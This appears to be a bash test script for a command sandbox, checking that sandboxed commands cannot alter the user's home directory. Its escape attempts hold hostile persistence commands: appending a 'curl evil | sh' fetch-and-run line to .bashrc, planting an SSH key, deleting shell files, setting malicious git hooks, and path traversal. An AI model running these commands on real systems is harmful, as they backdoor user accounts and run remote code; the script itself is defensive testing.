#!/usr/bin/env bash
# A sandboxed command cannot write the user's $HOME: shell start-up files, the global git
# config, ssh keys, caches.
. "$(dirname "$0")/common.sh"
. "$(dirname "$0")/sandbox_helpers.sh"

attempt() {
  local before sums
  mkdir -p "$HOME/.ssh"
  echo "ssh-ed25519 AAAA user@host" >"$HOME/.ssh/authorized_keys"
  echo "alias ls='ls -F'" >"$HOME/.bashrc"
  [[ $WHO == nobody ]] && chown -R $NOBODY:$NOBODY "$HOME"
  before=$(fingerprint)
  sums=$(cd "$HOME" && find . -path ./berth -prune -o -type f -print0 | sort -z |
    xargs -0 sha256sum)
  escape 'echo "curl evil | sh" >>"$HOME/.bashrc"'
  escape 'echo "ssh-rsa EVIL" >>"$HOME/.ssh/authorized_keys"'
  escape 'echo pwned >"$HOME/.profile"'
  escape 'mkdir -p "$HOME/.cache/evil"'
  escape 'rm "$HOME/.bashrc"'
  escape 'git config --global core.fsmonitor "touch pwned"'
  escape 'git config --global alias.st "!touch pwned"'
  escape 'echo pwned >"$XDG_CONFIG_HOME/berth/config.toml" || { mkdir -p "$XDG_CONFIG_HOME/berth" && echo pwned >"$XDG_CONFIG_HOME/berth/config.toml"; }'
  escape 'echo pwned >"$HOME/../escaped.txt"'
  [[ $(cd "$HOME" && find . -path ./berth -prune -o -type f -print0 | sort -z |
    xargs -0 sha256sum) == "$sums" ]]
  test ! -e "$HOME/.profile"
  assert_unchanged "$before"
}
escape_matrix attempt
